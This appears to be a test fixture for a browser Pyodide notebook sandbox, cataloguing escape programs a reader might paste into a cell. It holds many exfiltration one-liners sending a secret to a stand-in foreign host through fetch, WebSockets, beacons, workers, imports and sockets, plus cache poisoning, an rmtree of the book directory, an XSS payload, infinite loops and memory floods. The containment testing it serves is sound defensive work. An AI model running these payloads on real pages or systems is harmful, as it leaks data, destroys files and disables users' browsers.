@@ -1,0 +1,199 @@
+"""What a reader might paste into a cell to get out of the room: to a host, a store, another page.
+
+Programs for `nnbook.lab.browser.run_cells`, by name. `SITE`, `FOREIGN` and `SECRET` are set for
+them; ``script`` runs JavaScript in Python's own thread, ``thread`` in one that it starts.
+"""
+
+BEFORE = """
+import js
+from pyodide.ffi import create_proxy, to_js
+SITE, FOREIGN, SECRET = "[site]", "[foreign]", "secret"
+HEAD = f"var SITE = '{SITE}', FOREIGN = '{FOREIGN}', SECRET = 'secret';"
+def blob(code):
+    return js.URL.createObjectURL(js.Blob.new(to_js([HEAD + code])))
+def script(code):
+    js.importScripts(blob("try { " + code + " } catch {}"))
+def thread(code, **options):
+    return js.Worker.new(blob(code), **options)
+"""
+
+# In JavaScript, tried in Python's own thread and in one that it starts: the names that were
+# taken from the first would come back in the second.
+TRIED_TWICE = {
+    "fetch": "fetch(`${FOREIGN}/?${SECRET}`)",
+    "fetch of the site": "fetch(`${SITE}/index.html?${SECRET}`)",
+    "fetch of a prototype": """
+        delete self.fetch;
+        const find = (o) => Object.getOwnPropertyDescriptor(o, 'fetch')?.value ?? find(Object.getPrototypeOf(o));
+        find(self).call(self, `${FOREIGN}/?${SECRET}`)""",
+    "constructor of a constructor": "(() => 0).constructor.constructor('address', 'fetch(address)')(`${FOREIGN}/?${SECRET}`)",
+    "eval": "(0, eval)('fetch')(`${FOREIGN}/?${SECRET}`); eval('1')",
+    "timer with text": "setTimeout(`fetch('${FOREIGN}/?${SECRET}')`, 0)",
+    "request that asks the cache": "fetch(new Request(`${SITE}/index.html`, { cache: 'only-if-cached', mode: 'same-origin' }))",
+    "request without cors": "fetch(`${FOREIGN}/?${SECRET}`, { mode: 'no-cors', cache: 'reload' })",
+    "request that outlives": "fetch(`${FOREIGN}/`, { method: 'POST', body: SECRET, keepalive: true })",
+    "XMLHttpRequest": """
+        const request = new XMLHttpRequest();
+        request.open('POST', `${FOREIGN}/`, false);
+        request.send(SECRET)""",
+    "WebSocket": "new WebSocket(`${FOREIGN.replace('http', 'ws')}/?${SECRET}`)",
+    "WebSocketStream": "new WebSocketStream(`${FOREIGN.replace('http', 'ws')}/?${SECRET}`)",
+    "WebTransport": "new WebTransport(`${FOREIGN.replace('http:', 'https:')}/?${SECRET}`)",
+    "EventSource": "new EventSource(`${FOREIGN}/?${SECRET}`)",
+    "beacon": "navigator.sendBeacon(`${FOREIGN}/`, SECRET)",
+    "RTCPeerConnection": """
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${FOREIGN.slice(7)}` }] });
+        peer.createDataChannel('');
+        peer.createOffer().then((offer) => peer.setLocalDescription(offer))""",
+    "font": "const font = new FontFace('a', `url(${FOREIGN}/?${SECRET})`); fonts.add(font); font.load()",
+    "picture of a canvas": """
+        const context = new OffscreenCanvas(9, 9).getContext('2d');
+        context.filter = `url(${FOREIGN}/?${SECRET})`;
+        context.fillRect(0, 0, 9, 9)""",
+    "WebAssembly": "WebAssembly.compileStreaming(fetch(`${FOREIGN}/?${SECRET}`))",
+    "import()": "import(`${FOREIGN}/${SECRET}.js`)",
+    "import() of the site": "import(`${SITE}/_static/book.js?${SECRET}`)",
+    "import() of data": "import(`data:text/javascript,fetch('${FOREIGN}/?${SECRET}')`)",
+    "import in a blob": """
+        const text = `import '${FOREIGN}/${SECRET}.js'`;
+        import(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))""",
+    "importScripts": "importScripts(`${FOREIGN}/${SECRET}.js`)",
+    "importScripts of the site": "importScripts(`${SITE}/_static/book.js?${SECRET}`)",
+    "thread from data": "new Worker(`data:text/javascript,fetch('${FOREIGN}/?${SECRET}')`)",
+    "thread from the site": "new Worker(`${SITE}/_static/widgets/python.js?${SECRET}`)",
+    "thread from elsewhere": "new Worker(`${FOREIGN}/${SECRET}.js`, { type: 'module' })",
+    "thread from a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${FOREIGN}/?${SECRET}')`])))",
+    "thread of modules": """
+        const text = `import '${FOREIGN}/${SECRET}.js'; fetch('${FOREIGN}')`;
+        new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })), { type: 'module' })""",
+    "shared thread": """
+        const text = `fetch('${FOREIGN}/?${SECRET}')`;
+        new SharedWorker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })))""",
+    "service worker": "navigator.serviceWorker.register(`${SITE}/sw.js?${SECRET}`)",
+    "caches": """
+        caches.keys().then(async (names) => {
+          for (const name of [...names, 'new']) {
+            const cache = await caches.open(name);
+            await cache.put(`${SITE}/runtime/editor/editor.js`, new Response(SECRET));
+          }
+        })""",
+    "deleted caches": "caches.keys().then((names) => names.map((name) => caches.delete(name)))",
+    "IndexedDB": "indexedDB.open(SECRET, 1)",
+    "private files": """
+        navigator.storage.getDirectory()
+          .then((folder) => folder.getFileHandle(SECRET, { create: true }))""",
+    "lasting storage": "navigator.storage.persist()",
+    "cookies": "cookieStore.set('a', SECRET)",
+    "local storage": "localStorage.setItem('a', SECRET)",
+    "locks": "navigator.locks.request('book', { steal: true }, () => new Promise(() => null))",
+    "BroadcastChannel": "new BroadcastChannel('book').postMessage(SECRET)",
+    "notification": "Notification.requestPermission?.(); new Notification(SECRET)",
+    "window": "for (const each of [self.parent, self.top, self.opener]) each.postMessage(SECRET, '*')",
+    "navigation": "self.location.href = `${FOREIGN}/?${SECRET}`; top.location = `${FOREIGN}/?${SECRET}`",
+}
+
+IN_PYTHON = {
+    "js": "js.fetch(f'{FOREIGN}/?{SECRET}')",
+    "pyodide_js": """
+import pyodide_js
+pyodide_js.loadPackage(f"{FOREIGN}/{SECRET}-1-py3-none-any.whl")""",
+    "pyodide_js, its store": """
+import pyodide_js
+pyodide_js.FS.mkdir("/kept")
+pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, to_js({}), "/kept")
+open("/kept/a", "w").write(SECRET)
+pyodide_js.FS.syncfs(False, lambda *_: None)""",
+    "run_js": """
+from pyodide.code import run_js
+run_js(f"fetch('{FOREIGN}/?{SECRET}')")""",
+    "open_url": """
+from pyodide.http import open_url
+open_url(f"{FOREIGN}/?{SECRET}")""",
+    "pyfetch": """
+import asyncio
+from pyodide.http import pyfetch
+asyncio.ensure_future(pyfetch(f"{FOREIGN}/?{SECRET}"))""",
+    "urllib": """
+from urllib.request import urlopen
+urlopen(f"{FOREIGN}/?{SECRET}")""",
+    "socket": """
+import socket
+host, port = FOREIGN.removeprefix("http://").split(":")
+socket.create_connection((host, int(port))).send(SECRET.encode())""",
+}
+
+# What changes the Python in which it runs: the checks of exercises must not notice.
+TAMPERED = {
+    "deleted builtins": """
+import builtins
+for name in ("print", "len", "isinstance", "__build_class__"):
+    delattr(builtins, name)
+builtins.repr = None""",
+    "library that lies": """
+import nnbook, sys
+nnbook.Dropout.forward = lambda self, x: x
+sys.modules["json"] = None""",
+    "library that is gone": """
+import shutil
+shutil.rmtree("/book")""",
+}
+
+# What happens to the run itself or to the next one: the kind of the failure that says so.
+ENDS = {
+    "flood of 1 MB": ("strange", "for _ in range(300): js.postMessage('x' * 1_000_000)"),
+    "flood of objects": (
+        "strange",
+        "a = js.Array.new(100_000).fill(js.Object.new())\nfor _ in range(30): js.postMessage(a)",
+    ),
+    "flood of words": ("strange", "for _ in range(100_000): js.postMessage('x')"),
+    "flood of progress": (
+        "strange",
+        """for _ in range(50_000):
+    for call in range(1, 9):
+        js.postMessage('{"call": %d, "progress": {"cell": 0, "cells": 1}}' % call)""",
+    ),
+    "forged answer": (
+        "strange",
+        """for call in range(1, 400):
+    js.postMessage('{"call": %d, "answer": {"output": "<img src=x onerror=alert()>", '
+                   '"error": null, "done": 1, "__proto__": 1}}' % call)""",
+    ),
+    "close()": ("gone", "js.close()"),
+    "close() later": ("gone", "thread('0')\nscript('setTimeout(() => self.close(), 50)')"),
+    "endless microtasks": (
+        "gone",
+        "script('const again = () => Promise.resolve().then(again); again()')",
+    ),
+    "endless timer": ("gone", "script('setTimeout(() => { for (;;); }, 0)')"),
+    "calls that are swallowed": (
+        "gone",
+        "script(\"self.addEventListener('message', (e) => e.stopImmediatePropagation(), true)\")\n"
+        "js.JSON.stringify = None\njs.JSON.parse = None",
+    ),
+}
+
+# What costs much and is allowed: it must not cost the page.
+HEAVY = {
+    "errors that nobody waits for": """
+error = js.Error.new("x" * 100_000)
+for _ in range(50):
+    js.reportError(error)
+    js.Promise.reject(error)""",
+    "memory": """
+kept = []
+try:
+    for _ in range(9):
+        kept.append(js.Uint8Array.new(100_000_000))
+except BaseException:
+    pass""",
+    "threads": "kept = [thread('setInterval(() => 0, 1)') for _ in range(20)]",
+}
+
+
+def programs() -> dict[str, str]:
+    """All programs that get out, if anything does; the readers' run goes on after them."""
+    found = dict(IN_PYTHON)
+    for name, code in TRIED_TWICE.items():
+        found[name] = f"script({code!r})"
+        found[f"{name}, in a thread"] = f"kept = thread({code!r})"
+    return found
